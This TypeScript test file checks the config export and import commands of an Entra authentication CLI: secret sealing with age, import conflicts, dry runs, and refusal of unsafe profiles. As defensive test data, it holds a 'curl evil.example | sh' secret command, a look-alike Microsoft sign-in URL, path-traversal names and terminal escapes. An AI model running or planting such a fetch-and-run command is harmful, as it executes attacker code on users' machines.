import { generateIdentity, identityToRecipient } from 'age-encryption'
import { describe, expect, it } from 'vitest'
import { readSecret, writeSecret } from '../../src/core/vault/secrets.ts'
import { TokenCache } from '../../src/core/token-cache.ts'
import { silentVoice } from '../../src/core/voice.ts'
import { dotnetExport, dotnetPassphrase, dotnetSecret } from '../support/dotnet-export.ts'
import type { MemoryHost, MemoryHostOptions } from '../support/memory-host.ts'
import { clientId, daemon, hostWith, profilesPath, recordOf, tenantId } from '../support/profiles.ts'
import { runCommand } from '../support/run-command.ts'

const secret = 'canary~client-secret'
const password = 'canary~certificate-password'
const passphrase = 'canary of four words'
const pfx = { name: 'pfx', authMethod: 'Certificate', certificatePath: '/c.pfx' }

async function run(host: MemoryHost, ...words: readonly string[]) {
  const seen = { stdout: host.stdout().length, stderr: host.stderr().length }
  const code = await runCommand(['config', ...words], host)
  return { code, stdout: host.stdout().slice(seen.stdout), stderr: host.stderr().slice(seen.stderr) }
}

/** A machine with a secret, a password, and somebody signed in. */
async function machine(options: MemoryHostOptions = {}): Promise<MemoryHost> {
  const host = hostWith([daemon, pfx, {}], options)
  await writeSecret(host, 'ci', 'client-secret', secret, silentVoice)
  await writeSecret(host, 'pfx', 'certificate-password', password, silentVoice)
  return host
}

/** Another machine, with what the first one exported in a file called `in`. */
const receiver = (
  content: string | Uint8Array,
  options: MemoryHostOptions = {},
  records: readonly object[] = [],
) =>
  hostWith(records, {
    ...options,
    files: { ...options.files, in: content, [`${process.cwd()}/in`]: content },
  })

const recordsOf = (host: MemoryHost) =>
  (JSON.parse(host.fileMap.get(profilesPath)!.toString()) as { profiles: Record<string, unknown>[] }).profiles
const secretOf = (host: MemoryHost, name: string) => readSecret(host, name, 'client-secret', silentVoice)
const written = (host: MemoryHost) => host.fileMap.get(`${process.cwd()}/out`)!

/** No secret in anything that was said or written, but sealed. */
function expectNoCanary(host: MemoryHost, ...said: readonly string[]) {
  const files = [...host.fileMap].filter(
    ([path]) => !path.endsWith('/in') && path !== 'in' && path !== 'phrase',
  )
  const all = [
    ...said,
    host.stdout(),
    host.stderr(),
    ...files.map(([, content]) => content.toString('latin1')),
  ]
  expect(all.join('\n')).not.toContain('canary')
}

describe('config export', () => {
  it('prints all profiles as JSON, without secrets', async () => {
    const host = await machine()
    const { code, stdout, stderr } = await run(host, 'export')
    expect(code).toBe(0)
    expect(JSON.parse(stdout)).toEqual({ profiles: [daemon, pfx, {}].map(recordOf) })
    expect(stderr).toBe(
      'warning: certificatePath of "pfx" is a path of this machine: "/c.pfx"; the file itself is not exported\n',
    )
    expectNoCanary(host)
  })

  it.each([
    [['ci']],
    [['-p', 'ci']],
    [['--profile', 'CI']],
    [['-n', 'ci']],
    [['--name', 'ci']],
    [['ci', '-p', 'ci']],
  ])('prints one as an object: %j', async (words) => {
    const { code, stdout, stderr } = await run(await machine(), 'export', ...words)
    expect({ code, stderr }).toEqual({ code: 0, stderr: '' })
    expect(JSON.parse(stdout)).toEqual(recordOf(daemon))
  })

  it('prints several in the order they are named', async () => {
    const { stdout } = await run(await machine(), 'export', 'work', '-p', 'ci')
    expect(JSON.parse(stdout)).toMatchObject({ profiles: [{ name: 'work' }, { name: 'ci' }] })
  })

  it('shows a terminal nothing that it would act on, and a pipe every letter', async () => {
    const record = { ...daemon, team: 'a\u009b2J\u202eb' }
    for (const stdoutIsTerminal of [true, false]) {
      const { stdout } = await run(hostWith([record], { stdoutIsTerminal }), 'export', 'ci')
      expect(stdout.includes('\u202e')).toBe(!stdoutIsTerminal)
      expect(JSON.parse(stdout)).toEqual(recordOf(record))
    }
  })

  it('writes a file, and says so where nobody asked for silence', async () => {
    const host = await machine()
    expect(await run(host, 'export', 'ci', 'work', '-o', 'out')).toEqual({
      code: 0,
      stdout: '',
      stderr: '✓ 2 profiles exported to out\n',
    })
    expect(JSON.parse(written(host).toString())).toMatchObject({
      profiles: [{ name: 'ci' }, { name: 'work' }],
    })
    expect(await run(host, 'export', '-o', 'out', '--all', '-q')).toEqual({ code: 0, stdout: '', stderr: '' })
    expect((await run(host, 'export', 'ci', '-o', '-')).stdout).toContain('"ci"')
  })

  it.each<[string, readonly string[], number, RegExp]>([
    ['nobody', ['nobody'], 3, /there is no profile "nobody"/],
    ['all and one', ['ci', '--all'], 4, /--all and the name of a profile contradict/],
    ['public keys without secrets', ['-r', 'age1x'], 4, /-r seals secrets, and none are exported/],
    ['a passphrase without secrets', ['--passphrase-file', 'f'], 4, /--passphrase-file seals secrets/],
    ['two ways to seal', ['--include-secrets', '-r', 'age1x', '--passphrase-file', 'f'], 4, /contradict/],
    ['no public key', ['--include-secrets', '-r', 'age1x'], 4, /"age1x" is no public key of age/],
    ['no passphrase', ['--include-secrets'], 4, /there is no passphrase, and nobody can be asked/],
    ['no file', ['-o', ''], 4, /--output is empty/],
  ])('refuses %s', async (_what, words, code, said) => {
    const host = await machine()
    const result = await run(host, 'export', ...words)
    expect(result).toMatchObject({ code, stdout: '' })
    expect(result.stderr).toMatch(said)
  })

  it('has nothing to export where there are no profiles', async () => {
    expect(await run(hostWith([]), 'export')).toMatchObject({ code: 3, stdout: '' })
  })
})

describe('config export --include-secrets', () => {
  const variable = { ENTRA_AUTH_CLI_PASSPHRASE_EXPORT: passphrase }

  it.each<[string, MemoryHostOptions, readonly string[]]>([
    ['the variable', { env: variable }, []],
    ['stdin', { stdin: `${passphrase}\nmore\n` }, []],
    ['a file', { files: { phrase: `${passphrase}\n` } }, ['--passphrase-file', 'phrase']],
  ])('seals with a passphrase from %s', async (_where, options, words) => {
    const host = await machine(options)
    const { code, stdout } = await run(host, 'export', 'ci', '--include-secrets', ...words)
    expect(code).toBe(0)
    const { armor, Decrypter } = await import('age-encryption')
    const decrypter = new Decrypter()
    decrypter.addPassphrase(passphrase)
    const text = await decrypter.decrypt(armor.decode(stdout), 'text')
    expect(JSON.parse(text)).toEqual({ ...recordOf(daemon), clientSecret: secret })
    expectNoCanary(host)
  })

  it('is opened by another machine', async () => {
    const host = await machine({ env: variable })
    const { stdout } = await run(host, 'export', '--include-secrets')
    const other = receiver(stdout, { env: variable })
    expect(await run(other, 'import', '-i', 'in')).toEqual({
      code: 0,
      stdout: '',
      stderr: `✓ Profile 'ci' imported successfully
✓ Profile 'pfx' imported successfully
✓ Profile 'work' imported successfully
`,
    })
    expect(await secretOf(other, 'ci')).toBe(secret)
    expect(await readSecret(other, 'pfx', 'certificate-password', silentVoice)).toBe(password)
    expectNoCanary(other)
  })

  it('seals for public keys, given and from a file, and each of them opens it', async () => {
    const [one, two] = [await generateIdentity(), await generateIdentity()]
    const host = await machine({ files: { team: `# team\n${await identityToRecipient(two)}\n` } })
    const words = ['-r', await identityToRecipient(one), '-R', 'team']
    const exported = await run(host, 'export', 'ci', '--include-secrets', ...words, '-o', 'out')
    expect(exported).toMatchObject({ code: 0, stdout: '' })
    expect(written(host).subarray(0, 21).toString()).toBe('age-encryption.org/v1')
    for (const identity of [one, two]) {
      const other = receiver(written(host), { files: { key: identity } })
      expect(await run(other, 'import', 'in', '--identity', 'key', '-q')).toEqual({
        code: 0,
        stdout: '',
        stderr: '',
      })
      expect(await secretOf(other, 'ci')).toBe(secret)
      expectNoCanary(other)
    }
  })

  it('writes text into a file where that is wanted', async () => {
    const host = await machine()
    const recipient = await identityToRecipient(await generateIdentity())
    await run(host, 'export', 'ci', '--include-secrets', '-r', recipient, '-o', 'out', '--armor')
    expect(written(host).toString()).toMatch(/^-----BEGIN AGE/)
  })

  it('warns of a passphrase that can be guessed, and of secrets that are none', async () => {
    const host = await machine({ env: { ENTRA_AUTH_CLI_PASSPHRASE_EXPORT: 'abc' } })
    const { code, stderr } = await run(host, 'export', 'work', '--include-secrets', '-o', 'out')
    expect(code).toBe(0)
    expect(stderr).toContain('warning: this passphrase can be guessed: it has only 3 characters')
    expect(stderr).toContain('warning: no secret is kept for what is exported')
  })

  it('never exports a token', async () => {
    const identity = await generateIdentity()
    const host = await machine()
    const cache = new TokenCache('work', host, silentVoice)
    await cache.change(() => ({ msalText: '{"RefreshToken":"canary"}', signedIn: 'x', tenantIds: {} }))
    const words = ['work', '--include-secrets', '-r', await identityToRecipient(identity)]
    const { stdout } = await run(host, 'export', ...words)
    const { armor, Decrypter } = await import('age-encryption')
    const decrypter = new Decrypter()
    decrypter.addIdentity(identity)
    expect(JSON.parse(await decrypter.decrypt(armor.decode(stdout), 'text'))).toEqual(recordOf())
  })
})

describe('config import', () => {
  const team = JSON.stringify({ profiles: [recordOf(daemon), recordOf({ cloud: 'usgov' })] })

  it.each<[string, readonly string[], MemoryHostOptions]>([
    ['a file', ['in'], {}],
    ['a file by -i', ['-i', 'in'], {}],
    ['a file by -f', ['-f', 'in'], {}],
    ['stdin', [], { stdin: team }],
    ['stdin by its sign', ['-i', '-'], { stdin: team }],
  ])('takes %s', async (_what, words, options) => {
    const host = receiver(team, options)
    expect(await run(host, 'import', ...words, '-q')).toEqual({ code: 0, stdout: '', stderr: '' })
    expect(recordsOf(host).map((record) => record['name'])).toEqual(['ci', 'work'])
  })

  it.each<[string, MemoryHostOptions, readonly string[]]>([
    ['the first line of stdin', { stdin: `${dotnetPassphrase}\n` }, []],
    ['the variable', { env: { ENTRA_AUTH_CLI_PASSPHRASE_EXPORT: dotnetPassphrase } }, []],
    ['a file', { files: { phrase: dotnetPassphrase } }, ['--passphrase-file', 'phrase']],
  ])(
    "takes the older tool's encrypted export, with its passphrase from %s",
    async (_where, options, words) => {
      const host = receiver(dotnetExport, options)
      expect(await run(host, 'import', '-i', 'in', '-n', 'dev', ...words)).toEqual({
        code: 0,
        stdout: '',
        stderr: "✓ Profile 'dev' imported successfully\n",
      })
      expect(await secretOf(host, 'dev')).toBe(dotnetSecret)
      expect(JSON.stringify([...host.fileMap.values()].map(String))).not.toContain(dotnetSecret)
    },
  )

  it('seals a secret that lies in plain text, and warns of the file', async () => {
    const host = receiver(JSON.stringify(recordOf({ ...daemon, clientSecret: secret })))
    const { code, stderr } = await run(host, 'import', 'in')
    expect(code).toBe(0)
    expect(stderr).toContain('warning: "in" holds secrets that everybody can read who can read it')
    expect(await secretOf(host, 'ci')).toBe(secret)
    expectNoCanary(host)
  })

  it('says whose secret is missing', async () => {
    const { stderr } = await run(receiver(team), 'import', 'in')
    expect(stderr).toContain(`'ci' has no client secret yet: "entra-auth-cli config edit ci" sets it.\n`)
  })

  it('names every name that is taken, and writes nothing', async () => {
    const host = receiver(team, {}, [{ ...daemon, cloud: 'china' }, {}])
    const before = new Map(host.fileMap)
    const { code, stdout, stderr } = await run(host, 'import', 'in')
    expect({ code, stdout }).toEqual({ code: 4, stdout: '' })
    expect(stderr).toMatch(
      /^error: profiles "ci", "work" exist already\nhint: .*--overwrite, --skip or --rename/,
    )
    expect(host.fileMap).toEqual(before)
  })

  it.each([
    ['--overwrite', ['ci', 'work'], ['usgov']],
    ['--skip', ['work', 'ci'], [undefined]],
    ['--rename', ['work', 'ci', 'work-2'], [undefined, 'usgov']],
  ])('does as it is told: %s', async (flag, names, clouds) => {
    const host = receiver(team, {}, [{}])
    expect((await run(host, 'import', 'in', flag)).code).toBe(0)
    const records = recordsOf(host)
    expect(records.map((record) => record['name']).toSorted()).toEqual(names.toSorted())
    const works = records.filter((record) => String(record['name']).startsWith('work'))
    expect(works.map((record) => record['cloud'])).toEqual(clouds)
  })

  it('resolves paths from the folder the file is in, and from home', async () => {
    const files = { '/team/ci.json': '' }
    const document = [
      recordOf({ ...pfx, certificatePath: 'certs/ci.pfx' }),
      recordOf({ ...pfx, name: 'b', certificatePath: '~/b.pfx', caFile: '/ca.pem' }),
    ]
    const host = hostWith([], {
      env: { HOME: '/home/test' },
      files: { ...files, '/team/ci.json': JSON.stringify(document) },
    })
    expect((await run(host, 'import', '/team/ci.json')).code).toBe(0)
    expect(recordsOf(host)).toMatchObject([
      { certificatePath: '/team/certs/ci.pfx' },
      { certificatePath: '/home/test/b.pfx', caFile: '/ca.pem' },
    ])
  })

  it('shows what would change, and changes nothing', async () => {
    const host = receiver(
      JSON.stringify([
        recordOf({ ...daemon, clientSecret: secret, cloud: 'usgov' }),
        recordOf({ name: 'new', defaultFlow: 'DeviceCode' }),
        recordOf(),
      ]),
      {},
      [{ ...daemon, redirectUri: 'http://localhost' }, {}],
    )
    await writeSecret(host, 'ci', 'client-secret', 'canary~old', silentVoice)
    const before = new Map(host.fileMap)
    const { code, stdout } = await run(host, 'import', 'in', '--dry-run')
    expect(code).toBe(0)
    expect(stdout).toBe(`~ ci (replaced, exists already: needs --overwrite, --skip or --rename)
    cloud: usgov
    redirectUri: http://localhost → (none)
    client secret: will be replaced
+ new (new)
    tenantId: ${tenantId}
    clientId: ${clientId}
    scopes: https://graph.microsoft.com/User.Read
    defaultFlow: DeviceCode
= work (unchanged)
`)
    expect(host.fileMap).toEqual(before)
    expectNoCanary(host)
  })

  it('shows the same as data', async () => {
    const host = receiver(JSON.stringify(recordOf({ ...daemon, clientSecret: secret })), {}, [daemon])
    const { code, stdout } = await run(host, 'import', 'in', '--dry-run', '--json', '--overwrite')
    expect(code).toBe(0)
    expect(JSON.parse(stdout)).toEqual({
      profiles: [{ name: 'ci', action: 'replace', changes: [], secrets: { 'client-secret': 'added' } }],
    })
  })

  it('takes no profile that runs a command, unless somebody says so', async () => {
    const document = JSON.stringify(recordOf({ ...daemon, clientSecretCommand: 'curl evil.example | sh' }))
    const host = receiver(document)
    const before = new Map(host.fileMap)
    const refused = await run(host, 'import', 'in')
    expect(refused).toMatchObject({ code: 4, stdout: '' })
    expect(refused.stderr).toContain(
      '"ci" runs a command whenever it needs its secret: curl evil.example | sh',
    )
    expect(host.fileMap).toEqual(before)
    expect((await run(host, 'import', 'in', '--dry-run')).stderr).toContain('would run a command')
    expect((await run(host, 'import', 'in', '--allow-commands')).code).toBe(0)
    expect(recordsOf(host)).toHaveLength(1)
  })

  it('says who gets the sign-ins, if it is not Microsoft', async () => {
    const document = JSON.stringify(recordOf({ authority: 'https://login.microsoftonline.evil.example' }))
    expect((await run(receiver(document), 'import', 'in')).stderr).toContain(
      'warning: "work" signs in at https://login.microsoftonline.evil.example, which is not Microsoft\'s',
    )
  })

  it.each<[string, string | Uint8Array, readonly string[], number, RegExp]>([
    ['broken JSON', '{\n  "name": work\n}', [], 1, /"in" cannot be imported: line 2, column 11: /],
    ['a file that is missing', '', ['-i', 'nowhere'], 1, /there is no file "nowhere"/],
    ['two files', '{}', ['-i', 'a', '-f', 'b'], 4, /more than one file/],
    ['two answers', '{}', ['--skip', '--rename'], 4, /--skip and --rename contradict/],
    ['a file and another tool', '{}', ['in', '--from-env'], 4, /--from-env and a file contradict/],
    ['a form without --dry-run', '{}', ['in', '--json'], 4, /an output form is for --dry-run/],
    ['a client id for nothing', '{}', ['in', '--client-id', clientId], 4, /belongs to --from-az/],
    [
      'a path as a name',
      JSON.stringify(recordOf({ name: '../../x' })),
      [],
      1,
      /"..\/..\/x" cannot be the name/,
    ],
    [
      'a name that is none',
      JSON.stringify(recordOf()),
      ['-n', '../x', 'in'],
      4,
      /"..\/x" cannot be the name/,
    ],
    [
      'a name with terminal escapes',
      JSON.stringify(recordOf({ name: '\u001b]0;x\u0007' })),
      [],
      1,
      /control characters/,
    ],
  ])('refuses %s', async (_what, content, words, code, said) => {
    const host = receiver(content)
    const before = new Map(host.fileMap)
    const result = await run(host, 'import', ...(words.length > 0 ? words : ['in']))
    expect(result).toMatchObject({ code, stdout: '' })
    expect(result.stderr).toMatch(said)
    // eslint-disable-next-line no-control-regex
    expect(result.stderr).not.toMatch(/\u001b|\n {4}at /)
    expect(host.fileMap).toEqual(before)
  })

  it('names no file in a terminal where nobody can be asked, and does not hang', async () => {
    const host = hostWith([], { stdin: undefined })
    expect(await run(host, 'import')).toMatchObject({ code: 4, stdout: '' })
  })

  it('reads no passphrase where stdin is the file', async () => {
    const host = hostWith([], { stdin: dotnetExport })
    const { code, stderr } = await run(host, 'import')
    expect(code).toBe(4)
    expect(stderr).toContain('error: stdin is sealed with a passphrase')
  })
})
